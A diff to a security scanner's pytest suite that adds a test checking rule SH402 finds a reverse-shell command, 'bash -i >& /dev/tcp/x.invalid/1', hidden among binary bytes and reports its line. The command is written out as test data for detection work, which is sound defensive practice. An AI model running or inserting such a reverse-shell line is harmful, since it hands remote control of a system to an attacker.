@@ -134,6 +134,14 @@ def test_attack_a_respelled_command_is_found_in_text_and_binary(line):
     assert "SH402" in seen(b"\x01\xff" + line, "assets/a.dat")
 
 
+@pytest.mark.parametrize("odd", [b"\xf1\xf2\x01" * 9, b"\x89PNG\r\n\x1a\n" + b"\0\xff" * 40, b"\xff\n\xff\n" * 20])
+@pytest.mark.parametrize("nul", [b"", b"\0"])
+def test_attack_a_command_in_binary_data_is_found_on_its_line(odd, nul):
+    command = nul.join(b"%c" % each for each in b"bash -i >& /dev/tcp/x.invalid/1")
+    found = scan(Tree({"assets/a.dat": File(odd + b"\n" + command + b"\n" + odd + b"\xff" * 99)}))
+    assert [(each.rule, each.line) for each in found if each.rule == "SH402"] == [("SH402", odd.count(b"\n") + 2)]
+
+
 @pytest.mark.parametrize(
     "command",
     [
